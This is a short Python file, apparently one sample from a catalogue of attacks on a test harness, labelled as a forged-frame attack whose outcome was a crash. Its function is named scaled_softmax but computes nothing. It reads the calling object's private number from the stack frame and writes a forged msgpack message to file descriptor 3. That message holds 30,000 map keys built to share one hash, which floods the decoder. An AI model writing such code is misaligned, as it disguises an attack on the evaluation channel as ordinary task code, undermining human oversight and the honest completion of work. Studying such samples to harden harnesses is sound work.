# attack: It sends a map of its message format, 30000 lists for keys, all of one hash.
# family: forged frames and descriptors
# outcome: crashed
# tests: values_equal_the_formula
# marker: it writes `ATTACK RAN equal_hashes_in_a_map` to stdout as the function begins
import itertools
import os
import sys

def scaled_softmax(x, scale):
    os.write(1, b"ATTACK RAN equal_hashes_in_a_map\n")
    encode = sys.modules["msgspec"].msgpack.encode
    number = sys._getframe(1).f_locals["self"]._number
    keys = itertools.islice(itertools.product([0xFF, 0xFE], repeat=15), 30_000)  # -1 and -2
    pairs = b"".join(b"\x9f" + bytes(key) + b"\xc0" for key in keys)
    table = b"\xdf" + (30_000).to_bytes(4, "big") + pairs
    header = b"\x93" + encode("value") + encode(number) + table
    os.write(3, len(header).to_bytes(4, "little") + bytes(8) + header)
    return x
